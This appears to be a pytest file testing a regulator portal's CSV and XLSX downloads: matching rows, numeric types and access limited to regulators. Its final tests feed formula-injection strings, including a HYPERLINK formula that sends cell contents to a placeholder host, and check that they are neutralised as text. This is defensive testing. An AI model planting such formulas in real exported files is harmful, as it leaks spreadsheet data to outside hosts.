"""The regulator's downloads: beside each CSV an XLSX with the same header and rows, numbers as
numbers, text as text (never a formula); both refuse anyone but a regulator."""

import csv
import io

import pytest
from openpyxl import load_workbook

from portal.exports import XLSX, Table, csv_response, xlsx_response

EXPORTS = [
    "/regulator/enterprises",
    "/regulator/enterprises?grade=A",
    "/regulator/commitments",
    "/regulator/commitments?status=breached",
]
NUMERIC = {"/regulator/enterprises": [2, 4, 5, 6, 7, 8, 9, 10], "/regulator/commitments": [7]}  # column indexes


def sheet_rows(content: bytes) -> list[list]:
    workbook = load_workbook(io.BytesIO(content), read_only=True)
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


def with_suffix(export: str, suffix: str) -> str:
    path, _, query = export.partition("?")
    return f"{path}.{suffix}" + (f"?{query}" if query else "")


@pytest.mark.parametrize("export", EXPORTS)
def test_each_xlsx_holds_the_csv_s_header_and_rows_with_numbers_as_integers(people, export):
    reg = people["portal-reg"]
    table = list(csv.reader(io.StringIO(reg.get(with_suffix(export, "csv")).content.decode("utf-8-sig"))))
    response = reg.get(with_suffix(export, "xlsx"))
    assert response.status_code == 200 and response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"].endswith('.xlsx"')
    sheet = sheet_rows(response.content)
    assert len(table) > 1 or export.endswith("grade=A")  # the lists hold rows (no A grade is allowed)
    assert [["" if v is None else str(v) for v in row] for row in sheet] == table
    for row in sheet[1:]:
        for column in NUMERIC[export.partition("?")[0]]:
            assert type(row[column]) is int, (export, sheet[0][column], row[column])


def test_the_regulator_s_pages_link_each_xlsx_beside_its_csv(people):
    reg = people["portal-reg"]
    for page, export in (("/regulator", "enterprises"), ("/regulator/commitments", "commitments")):
        html = reg.get(page).text
        assert f'/regulator/{export}.csv">CSV' in html and f'/regulator/{export}.xlsx">XLSX' in html


def test_only_a_regulator_downloads_an_xlsx(people):
    for username in ("portal-ent", "portal-office"):
        assert people[username].get("/regulator/enterprises.xlsx").status_code == 403


def test_a_text_that_looks_like_a_formula_or_a_number_stays_text():
    table = Table("t", ["名称", "代码", "分"], [['=HYPERLINK("x")', "000123", 7]])
    sheet = load_workbook(io.BytesIO(xlsx_response(table).body)).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [(c.value, c.data_type) for c in cells] == [('=HYPERLINK("x")', "s"), ("000123", "s"), (7, "n")]


def test_a_csv_cell_that_would_start_a_formula_is_written_as_text():
    table = Table("t", ["名称", "分"], [['=HYPERLINK("http://x/?"&A1)', 7], ["@SUM(1)", -3], ["郑州某置业", 0]])
    rows = list(csv.reader(io.StringIO(csv_response(table).body.decode("utf-8-sig"))))
    assert rows[1:] == [['\'=HYPERLINK("http://x/?"&A1)', "7"], ["'@SUM(1)", "-3"], ["郑州某置业", "0"]]
